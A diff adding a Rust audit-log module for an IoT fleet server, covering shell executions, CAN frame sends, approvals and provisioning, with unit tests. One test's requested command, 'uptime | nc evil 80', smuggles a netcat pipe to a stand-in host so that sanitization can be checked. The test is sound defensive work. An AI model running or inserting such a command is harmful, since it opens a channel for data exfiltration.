@@ -0,0 +1,741 @@
+//! Append-only audit trail.
+//!
+//! Records who did what to which device and how it turned out:
+//!
+//! - every command dispatch ([`crate::routes::commands::store_command`],
+//!   so single-device, broadcast and scheduled commands alike),
+//! - every shell execution, with the command line the agent actually ran
+//!   after sanitizing it,
+//! - every raw CAN frame a bench-mode device transmitted (`send_frame`),
+//! - every change to a shadow's desired state,
+//! - device provisioning and certificate issuance,
+//! - fleet registration and deletion, and fleet tokens issued and revoked,
+//! - claim codes created and revoked, and devices claiming them,
+//! - the two-person approval chain ([`crate::approval`]) — request,
+//!   approval, cancellation or expiry.
+//!
+//! Entries are never updated or deleted through the API. They are read back
+//! with `GET /api/v1/audit` (filtered, newest first) and, per command, with
+//! `GET /api/v1/commands/{id}/audit`. Without a database the newest
+//! [`MEMORY_CAPACITY`] entries are kept in a ring.
+
+use chrono::{DateTime, Utc};
+use serde::{Deserialize, Serialize};
+use utoipa::ToSchema;
+use uuid::Uuid;
+
+use zc_protocol::commands::{
+    ActionKind, CommandResponse, CommandStatus, ErrorCode, ParsedIntent, SHELL_COMMAND_KEY,
+};
+
+use crate::error::{ApiError, ApiResult};
+use crate::state::AppState;
+
+/// Entries kept in memory mode; the oldest are dropped beyond this.
+pub const MEMORY_CAPACITY: usize = 10_000;
+
+/// What was done.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
+#[serde(rename_all = "snake_case")]
+pub enum AuditAction {
+    /// A high-risk command was held for approval.
+    ApprovalRequested,
+    /// A second operator approved the command and it was dispatched.
+    Approved,
+    /// The approval window closed before anyone approved.
+    ApprovalExpired,
+    /// The command was cancelled (for a held command: rejected).
+    Cancelled,
+    /// A command was accepted for a device (sent, queued or held).
+    CommandDispatched,
+    /// A failed or timed-out command was sent again as a new command.
+    Retried,
+    /// The agent ran (or refused) a shell command.
+    ShellExecuted,
+    /// A bench-mode device transmitted (or failed to transmit) a raw CAN
+    /// frame.
+    CanFrameSent,
+    /// A shadow's desired state was set or cleared.
+    ShadowDesiredChanged,
+    /// A device was provisioned.
+    DeviceProvisioned,
+    /// A client certificate was issued to a device.
+    CertificateIssued,
+    /// A fleet was registered.
+    FleetCreated,
+    /// A fleet was deleted.
+    FleetDeleted,
+    /// An API token was issued for a fleet.
+    FleetTokenIssued,
+    /// A fleet's API token was revoked.
+    FleetTokenRevoked,
+    /// A device onboarding claim code was created.
+    ClaimCodeCreated,
+    /// An unclaimed claim code was revoked.
+    ClaimCodeRevoked,
+    /// A device presented a claim code on first connect.
+    DeviceClaimed,
+}
+
+impl AuditAction {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::ApprovalRequested => "approval_requested",
+            Self::Approved => "approved",
+            Self::ApprovalExpired => "approval_expired",
+            Self::Cancelled => "cancelled",
+            Self::CommandDispatched => "command_dispatched",
+            Self::Retried => "retried",
+            Self::ShellExecuted => "shell_executed",
+            Self::CanFrameSent => "can_frame_sent",
+            Self::ShadowDesiredChanged => "shadow_desired_changed",
+            Self::DeviceProvisioned => "device_provisioned",
+            Self::CertificateIssued => "certificate_issued",
+            Self::FleetCreated => "fleet_created",
+            Self::FleetDeleted => "fleet_deleted",
+            Self::FleetTokenIssued => "fleet_token_issued",
+            Self::FleetTokenRevoked => "fleet_token_revoked",
+            Self::ClaimCodeCreated => "claim_code_created",
+            Self::ClaimCodeRevoked => "claim_code_revoked",
+            Self::DeviceClaimed => "device_claimed",
+        }
+    }
+
+    pub fn parse(s: &str) -> Option<Self> {
+        match s {
+            "approval_requested" => Some(Self::ApprovalRequested),
+            "approved" => Some(Self::Approved),
+            "approval_expired" => Some(Self::ApprovalExpired),
+            "cancelled" => Some(Self::Cancelled),
+            "command_dispatched" => Some(Self::CommandDispatched),
+            "retried" => Some(Self::Retried),
+            "shell_executed" => Some(Self::ShellExecuted),
+            "can_frame_sent" => Some(Self::CanFrameSent),
+            "shadow_desired_changed" => Some(Self::ShadowDesiredChanged),
+            "device_provisioned" => Some(Self::DeviceProvisioned),
+            "certificate_issued" => Some(Self::CertificateIssued),
+            "fleet_created" => Some(Self::FleetCreated),
+            "fleet_deleted" => Some(Self::FleetDeleted),
+            "fleet_token_issued" => Some(Self::FleetTokenIssued),
+            "fleet_token_revoked" => Some(Self::FleetTokenRevoked),
+            "claim_code_created" => Some(Self::ClaimCodeCreated),
+            "claim_code_revoked" => Some(Self::ClaimCodeRevoked),
+            "device_claimed" => Some(Self::DeviceClaimed),
+            _ => None,
+        }
+    }
+}
+
+/// How an audited action turned out.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
+#[serde(rename_all = "snake_case")]
+pub enum AuditOutcome {
+    Succeeded,
+    /// Started but did not complete (e.g. a shell command exited non-zero).
+    Failed,
+    /// Refused before it ran (e.g. a shell command outside the allowlist).
+    Rejected,
+}
+
+impl AuditOutcome {
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::Succeeded => "succeeded",
+            Self::Failed => "failed",
+            Self::Rejected => "rejected",
+        }
+    }
+
+    pub fn parse(s: &str) -> Option<Self> {
+        match s {
+            "succeeded" => Some(Self::Succeeded),
+            "failed" => Some(Self::Failed),
+            "rejected" => Some(Self::Rejected),
+            _ => None,
+        }
+    }
+}
+
+/// One audit log entry.
+#[derive(Debug, Clone, Serialize, ToSchema)]
+pub struct AuditEntry {
+    pub at: DateTime<Utc>,
+    /// Who acted: the operator, a command's initiator, or `system`.
+    pub actor: String,
+    pub action: AuditAction,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub command_id: Option<Uuid>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub device_id: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub fleet_id: Option<String>,
+    /// Absent on approval-chain entries, where the action is the outcome.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub outcome: Option<AuditOutcome>,
+    /// Action-specific context (reason, command line, desired state, ...).
+    pub detail: serde_json::Value,
+}
+
+impl AuditEntry {
+    /// Entry about a command, timestamped now.
+    pub fn command(
+        actor: impl Into<String>,
+        action: AuditAction,
+        command_id: Uuid,
+        device_id: impl Into<String>,
+        detail: serde_json::Value,
+    ) -> Self {
+        Self {
+            command_id: Some(command_id),
+            ..Self::device(actor, action, device_id, detail)
+        }
+    }
+
+    /// Entry about a device, timestamped now.
+    pub fn device(
+        actor: impl Into<String>,
+        action: AuditAction,
+        device_id: impl Into<String>,
+        detail: serde_json::Value,
+    ) -> Self {
+        Self {
+            at: Utc::now(),
+            actor: actor.into(),
+            action,
+            command_id: None,
+            device_id: Some(device_id.into()),
+            fleet_id: None,
+            outcome: None,
+            detail,
+        }
+    }
+
+    /// Entry about a fleet itself, timestamped now.
+    pub fn fleet(
+        actor: impl Into<String>,
+        action: AuditAction,
+        fleet_id: impl Into<String>,
+        detail: serde_json::Value,
+    ) -> Self {
+        Self {
+            at: Utc::now(),
+            actor: actor.into(),
+            action,
+            command_id: None,
+            device_id: None,
+            fleet_id: Some(fleet_id.into()),
+            outcome: None,
+            detail,
+        }
+    }
+
+    pub fn with_fleet(mut self, fleet_id: impl Into<String>) -> Self {
+        self.fleet_id = Some(fleet_id.into());
+        self
+    }
+
+    pub fn with_outcome(mut self, outcome: AuditOutcome) -> Self {
+        self.outcome = Some(outcome);
+        self
+    }
+}
+
+/// Filters for [`list`]; unset fields match everything.
+#[derive(Debug, Clone, Default)]
+pub struct AuditFilter {
+    pub actor: Option<String>,
+    pub action: Option<AuditAction>,
+    pub outcome: Option<AuditOutcome>,
+    pub command_id: Option<Uuid>,
+    pub device_id: Option<String>,
+    pub fleet_id: Option<String>,
+    /// Entries at or after this time.
+    pub since: Option<DateTime<Utc>>,
+    /// Entries before this time.
+    pub until: Option<DateTime<Utc>>,
+    /// Only these fleets (the caller's tenants); `None` for all. Entries
+    /// without a fleet are then left out.
+    pub fleets: Option<Vec<String>>,
+    pub limit: u32,
+    pub offset: u32,
+}
+
+impl AuditFilter {
+    /// Whether an entry passes the filters (paging aside).
+    pub fn matches(&self, entry: &AuditEntry) -> bool {
+        self.actor.as_deref().is_none_or(|a| entry.actor == a)
+            && self.action.is_none_or(|a| entry.action == a)
+            && self.outcome.is_none_or(|o| entry.outcome == Some(o))
+            && self.command_id.is_none_or(|c| entry.command_id == Some(c))
+            && self
+                .device_id
+                .as_deref()
+                .is_none_or(|d| entry.device_id.as_deref() == Some(d))
+            && self
+                .fleet_id
+                .as_deref()
+                .is_none_or(|f| entry.fleet_id.as_deref() == Some(f))
+            && self.since.is_none_or(|t| entry.at >= t)
+            && self.until.is_none_or(|t| entry.at < t)
+            && self
+                .fleets
+                .as_ref()
+                .is_none_or(|fleets| entry.fleet_id.as_ref().is_some_and(|f| fleets.contains(f)))
+    }
+}
+
+/// Append an entry.
+pub async fn record(state: &AppState, entry: AuditEntry) -> ApiResult<()> {
+    tracing::info!(
+        actor = %entry.actor,
+        action = entry.action.as_str(),
+        outcome = entry.outcome.map(AuditOutcome::as_str),
+        command_id = ?entry.command_id,
+        device_id = ?entry.device_id,
+        "audit"
+    );
+    if let Some(pool) = &state.pool {
+        crate::db::audit::insert(pool, &entry)
+            .await
+            .map_err(|e| ApiError::Internal(e.to_string()))?;
+    } else {
+        let mut log = state.audit_log.write().await;
+        if log.len() >= MEMORY_CAPACITY {
+            log.pop_front();
+        }
+        log.push_back(entry);
+    }
+    Ok(())
+}
+
+/// Entries about one command, oldest first.
+pub async fn for_command(state: &AppState, command_id: Uuid) -> ApiResult<Vec<AuditEntry>> {
+    if let Some(pool) = &state.pool {
+        let rows = crate::db::audit::list_for_command(pool, command_id)
+            .await
+            .map_err(|e| ApiError::Internal(e.to_string()))?;
+        return Ok(rows
+            .into_iter()
+            .filter_map(crate::db::audit::AuditRow::into_entry)
+            .collect());
+    }
+    Ok(state
+        .audit_log
+        .read()
+        .await
+        .iter()
+        .filter(|e| e.command_id == Some(command_id))
+        .cloned()
+        .collect())
+}
+
+/// One page of entries matching `filter` (newest first) and the total count.
+pub async fn list(state: &AppState, filter: &AuditFilter) -> ApiResult<(Vec<AuditEntry>, u64)> {
+    if let Some(pool) = &state.pool {
+        let (rows, total) = tokio::try_join!(
+            crate::db::audit::list_page(pool, filter),
+            crate::db::audit::count(pool, filter),
+        )
+        .map_err(|e| ApiError::Internal(e.to_string()))?;
+        return Ok((
+            rows.into_iter()
+                .filter_map(crate::db::audit::AuditRow::into_entry)
+                .collect(),
+            total as u64,
+        ));
+    }
+    let log = state.audit_log.read().await;
+    let matching: Vec<AuditEntry> = log
+        .iter()
+        .rev()
+        .filter(|e| filter.matches(e))
+        .cloned()
+        .collect();
+    let total = matching.len() as u64;
+    Ok((
+        crate::routes::pagination::slice(matching, filter.offset, filter.limit),
+        total,
+    ))
+}
+
+/// Outcome of a shell command from the agent's response.
+fn shell_outcome(response: &CommandResponse) -> AuditOutcome {
+    match (response.status, response.error_code) {
+        (CommandStatus::Completed, _) => AuditOutcome::Succeeded,
+        (CommandStatus::Throttled, _) | (_, Some(ErrorCode::ShellBlocked)) => {
+            AuditOutcome::Rejected
+        }
+        _ => AuditOutcome::Failed,
+    }
+}
+
+/// Record a device's response to a shell action. Other responses are
+/// ignored. The command line is the one the agent reports having run
+/// (after sanitization), falling back to the requested one for agents that
+/// do not report it. Failures to write the entry are logged, not returned:
+/// the response itself has already been stored.
+pub async fn shell_responded(
+    state: &AppState,
+    initiated_by: &str,
+    fleet_id: &str,
+    intent: Option<&ParsedIntent>,
+    response: &CommandResponse,
+) {
+    let Some(intent) = intent.filter(|i| i.action == ActionKind::Shell) else {
+        return;
+    };
+    let executed = response
+        .response_data
+        .as_ref()
+        .and_then(|d| d.get(SHELL_COMMAND_KEY))
+        .and_then(|c| c.as_str());
+    let entry = AuditEntry::command(
+        initiated_by,
+        AuditAction::ShellExecuted,
+        response.command_id,
+        &response.device_id,
+        serde_json::json!({
+            "command_line": executed.unwrap_or(&intent.tool_name),
+            "requested": intent.tool_name,
+            "reported_by_agent": executed.is_some(),
+            "status": response.status,
+            "error": response.error,
+        }),
+    )
+    .with_fleet(fleet_id)
+    .with_outcome(shell_outcome(response));
+    if let Err(e) = record(state, entry).await {
+        tracing::error!(error = %e, command_id = %response.command_id, "failed to audit shell execution");
+    }
+}
+
+/// Tool that transmits raw CAN frames on bench-mode devices.
+pub const SEND_FRAME_TOOL: &str = "send_frame";
+
+/// Record a device's response to a command that calls `send_frame`, on
+/// its own or as plan steps: one entry per run of the tool, with the frame
+/// it reports having transmitted (`data.tx` of its result, for a plan in
+/// `steps[i].result`). When no run is reported, one entry without a frame
+/// is recorded. Other responses are ignored; write failures are logged as
+/// for [`shell_responded`].
+pub async fn can_frame_responded(
+    state: &AppState,
+    initiated_by: &str,
+    fleet_id: &str,
+    intent: Option<&ParsedIntent>,
+    response: &CommandResponse,
+) {
+    let Some(intent) = intent.filter(|i| {
+        i.action == ActionKind::Tool && i.tool_names().any(|name| name == SEND_FRAME_TOOL)
+    }) else {
+        return;
+    };
+    let data = response.response_data.as_ref();
+    // (plan step and item, tool result, error) of each run.
+    let mut runs: Vec<(
+        Option<&serde_json::Value>,
+        Option<&serde_json::Value>,
+        Option<&str>,
+    )> = if intent.steps.is_empty() {
+        vec![(
+            None,
+            data,
+            response
+                .error
+                .as_deref()
+                .or_else(|| data.and_then(|d| d["error"].as_str())),
+        )]
+    } else {
+        data.and_then(|d| d["steps"].as_array())
+            .into_iter()
+            .flatten()
+            .filter(|r| r["tool_name"] == SEND_FRAME_TOOL && r["status"] != "skipped")
+            .map(|r| (Some(r), Some(&r["result"]), r["error"].as_str()))
+            .collect()
+    };
+    if runs.is_empty() {
+        runs.push((None, None, response.error.as_deref()));
+    }
+
+    for (step, result, error) in runs {
+        let tx = result
+            .and_then(|r| r.pointer("/data/tx"))
+            .filter(|tx| !tx.is_null());
+        let outcome = match (tx, response.status) {
+            (Some(_), _) => AuditOutcome::Succeeded,
+            (None, CommandStatus::Throttled) => AuditOutcome::Rejected,
+            (None, _) => AuditOutcome::Failed,
+        };
+        let mut detail = serde_json::json!({
+            "tx": tx,
+            "reply_count": result.and_then(|r| r.pointer("/data/reply_count")),
+            "status": response.status,
+            "error": error,
+        });
+        if let Some(step) = step {
+            detail["step"] = step["step"].clone();
+            if let Some(item) = step.get("item") {
+                detail["item"] = item.clone();
+            }
+        }
+        let entry = AuditEntry::command(
+            initiated_by,
+            AuditAction::CanFrameSent,
+            response.command_id,
+            &response.device_id,
+            detail,
+        )
+        .with_fleet(fleet_id)
+        .with_outcome(outcome);
+        if let Err(e) = record(state, entry).await {
+            tracing::error!(error = %e, command_id = %response.command_id, "failed to audit CAN frame");
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn action_names_round_trip() {
+        for action in [
+            AuditAction::ApprovalRequested,
+            AuditAction::Approved,
+            AuditAction::ApprovalExpired,
+            AuditAction::Cancelled,
+            AuditAction::CommandDispatched,
+            AuditAction::ShellExecuted,
+            AuditAction::CanFrameSent,
+            AuditAction::ShadowDesiredChanged,
+            AuditAction::DeviceProvisioned,
+        ] {
+            assert_eq!(AuditAction::parse(action.as_str()), Some(action));
+            assert_eq!(
+                serde_json::to_value(action).unwrap(),
+                serde_json::json!(action.as_str())
+            );
+        }
+        assert_eq!(AuditAction::parse("deleted"), None);
+        for outcome in [
+            AuditOutcome::Succeeded,
+            AuditOutcome::Failed,
+            AuditOutcome::Rejected,
+        ] {
+            assert_eq!(AuditOutcome::parse(outcome.as_str()), Some(outcome));
+        }
+    }
+
+    #[tokio::test]
+    async fn memory_log_is_a_ring_listed_newest_first() {
+        let state = AppState::new();
+        for i in 0..MEMORY_CAPACITY + 5 {
+            let entry = AuditEntry::device(
+                "alice",
+                AuditAction::DeviceProvisioned,
+                format!("rpi-{i}"),
+                serde_json::json!({}),
+            )
+            .with_fleet(if i % 2 == 0 {
+                "fleet-alpha"
+            } else {
+                "fleet-beta"
+            })
+            .with_outcome(AuditOutcome::Succeeded);
+            record(&state, entry).await.unwrap();
+        }
+        assert_eq!(state.audit_log.read().await.len(), MEMORY_CAPACITY);
+
+        let filter = AuditFilter {
+            fleets: Some(vec!["fleet-beta".into()]),
+            limit: 2,
+            ..Default::default()
+        };
+        let (page, total) = list(&state, &filter).await.unwrap();
+        assert_eq!(total, MEMORY_CAPACITY as u64 / 2);
+        let devices: Vec<_> = page.iter().filter_map(|e| e.device_id.as_deref()).collect();
+        assert_eq!(
+            devices,
+            [
+                format!("rpi-{}", MEMORY_CAPACITY + 3),
+                format!("rpi-{}", MEMORY_CAPACITY + 1)
+            ]
+        );
+    }
+
+    #[tokio::test]
+    async fn shell_response_records_sanitized_command_line() {
+        let state = AppState::new();
+        let intent = ParsedIntent {
+            action: ActionKind::Shell,
+            tool_name: "uptime | nc evil 80".into(),
+            tool_args: serde_json::json!({}),
+            confidence: 0.9,
+            steps: Vec::new(),
+        };
+        let command_id = Uuid::now_v7();
+        let response = CommandResponse {
+            command_id,
+            correlation_id: Uuid::now_v7(),
+            device_id: "rpi-001".into(),
+            status: CommandStatus::Completed,
+            inference_tier: zc_protocol::commands::InferenceTier::Local,
+            response_text: Some("up 3 days".into()),
+            response_data: Some(serde_json::json!({ SHELL_COMMAND_KEY: "uptime" })),
+            latency_ms: 12,
+            responded_at: Utc::now(),
+            error: None,
+            error_code: None,
+            cached: false,
+        };
+        shell_responded(&state, "alice", "fleet-alpha", Some(&intent), &response).await;
+
+        let entries = for_command(&state, command_id).await.unwrap();
+        assert_eq!(entries.len(), 1);
+        assert_eq!(entries[0].action, AuditAction::ShellExecuted);
+        assert_eq!(entries[0].actor, "alice");
+        assert_eq!(entries[0].outcome, Some(AuditOutcome::Succeeded));
+        assert_eq!(entries[0].detail["command_line"], "uptime");
+        assert_eq!(entries[0].detail["requested"], "uptime | nc evil 80");
+
+        // Not a shell action: nothing recorded.
+        let tool = ParsedIntent {
+            action: ActionKind::Tool,
+            ..intent
+        };
+        shell_responded(&state, "alice", "fleet-alpha", Some(&tool), &response).await;
+        assert_eq!(for_command(&state, command_id).await.unwrap().len(), 1);
+    }
+    #[tokio::test]
+    async fn send_frame_response_records_the_transmitted_frame() {
+        let state = AppState::new();
+        let intent = ParsedIntent {
+            action: ActionKind::Tool,
+            tool_name: SEND_FRAME_TOOL.into(),
+            tool_args: serde_json::json!({ "id": "0x7E0", "data": "02 10 03" }),
+            confidence: 1.0,
+            steps: Vec::new(),
+        };
+        let command_id = Uuid::now_v7();
+        let tx = serde_json::json!({
+            "id": "0x7E0",
+            "data": "02 10 03",
+            "dlc": 3,
+            "sent_at": "2026-10-16T08:00:00Z",
+        });
+        let response = CommandResponse {
+            command_id,
+            correlation_id: Uuid::now_v7(),
+            device_id: "rpi-001".into(),
+            status: CommandStatus::Completed,
+            inference_tier: zc_protocol::commands::InferenceTier::Local,
+            response_text: Some("Sent 0x7E0 [02 10 03]".into()),
+            response_data: Some(serde_json::json!({
+                "tool_name": SEND_FRAME_TOOL,
+                "success": false,
+                "data": { "tx": tx, "reply_count": 0 },
+                "error": "frame sent, but collecting replies failed: bus off",
+            })),
+            latency_ms: 12,
+            responded_at: Utc::now(),
+            error: None,
+            error_code: None,
+            cached: false,
+        };
+        can_frame_responded(&state, "alice", "fleet-alpha", Some(&intent), &response).await;
+
+        let entries = for_command(&state, command_id).await.unwrap();
+        assert_eq!(entries.len(), 1);
+        assert_eq!(entries[0].action, AuditAction::CanFrameSent);
+        assert_eq!(entries[0].fleet_id.as_deref(), Some("fleet-alpha"));
+        assert_eq!(entries[0].outcome, Some(AuditOutcome::Succeeded));
+        assert_eq!(entries[0].detail["tx"], tx);
+        assert!(
+            entries[0].detail["error"]
+                .as_str()
+                .unwrap()
+                .contains("bus off")
+        );
+
+        // Refused before anything went out.
+        let refused = CommandResponse {
+            command_id,
+            status: CommandStatus::Failed,
+            response_data: None,
+            error: Some("OBD mode 0x04 blocked".into()),
+            ..response
+        };
+        can_frame_responded(&state, "alice", "fleet-alpha", Some(&intent), &refused).await;
+        let entries = for_command(&state, command_id).await.unwrap();
+        assert_eq!(entries[1].outcome, Some(AuditOutcome::Failed));
+        assert!(entries[1].detail["tx"].is_null());
+    }
+
+    #[tokio::test]
+    async fn send_frame_plan_steps_record_each_frame() {
+        use zc_protocol::plan::PlanStep;
+
+        let state = AppState::new();
+        // Send one frame per ECU the first step found.
+        let send = PlanStep {
+            for_each: Some("steps.0.data.ecus".into()),
+            ..PlanStep::new(SEND_FRAME_TOOL, serde_json::json!({ "id": "{{item}}" }))
+        };
+        let intent = ParsedIntent {
+            action: ActionKind::Tool,
+            tool_name: "read_dtcs".into(),
+            tool_args: serde_json::json!({}),
+            confidence: 1.0,
+            steps: vec![PlanStep::new("read_dtcs", serde_json::json!({})), send],
+        };
+        let frame = |id: &str| {
+            serde_json::json!({
+                "tool_name": SEND_FRAME_TOOL,
+                "success": true,
+                "data": { "tx": { "id": id, "data": "02 10 03" }, "reply_count": 1 },
+            })
+        };
+        let command_id = Uuid::now_v7();
+        let response = CommandResponse {
+            command_id,
+            correlation_id: Uuid::now_v7(),
+            device_id: "rpi-001".into(),
+            status: CommandStatus::Completed,
+            inference_tier: zc_protocol::commands::InferenceTier::Local,
+            response_text: None,
+            response_data: Some(serde_json::json!({
+                "steps": [
+                    { "step": 0, "tool_name": "read_dtcs", "status": "completed",
+                      "result": { "success": true, "data": {} } },
+                    { "step": 1, "tool_name": SEND_FRAME_TOOL, "status": "completed",
+                      "item": 0, "result": frame("0x7E0") },
+                    { "step": 1, "tool_name": SEND_FRAME_TOOL, "status": "completed",
+                      "item": 1, "result": frame("0x7E1") },
+                ],
+                "completed": 3,
+            })),
+            latency_ms: 30,
+            responded_at: Utc::now(),
+            error: None,
+            error_code: None,
+            cached: false,
+        };
+        can_frame_responded(&state, "alice", "fleet-alpha", Some(&intent), &response).await;
+
+        let entries = for_command(&state, command_id).await.unwrap();
+        let frames: Vec<_> = entries
+            .iter()
+            .map(|e| (e.detail["tx"]["id"].clone(), e.detail["item"].clone()))
+            .collect();
+        assert_eq!(
+            frames,
+            [
+                (serde_json::json!("0x7E0"), serde_json::json!(0)),
+                (serde_json::json!("0x7E1"), serde_json::json!(1)),
+            ]
+        );
+        assert!(entries.iter().all(|e| e.action == AuditAction::CanFrameSent
+            && e.outcome == Some(AuditOutcome::Succeeded)
+            && e.detail["step"] == 1));
+    }
+}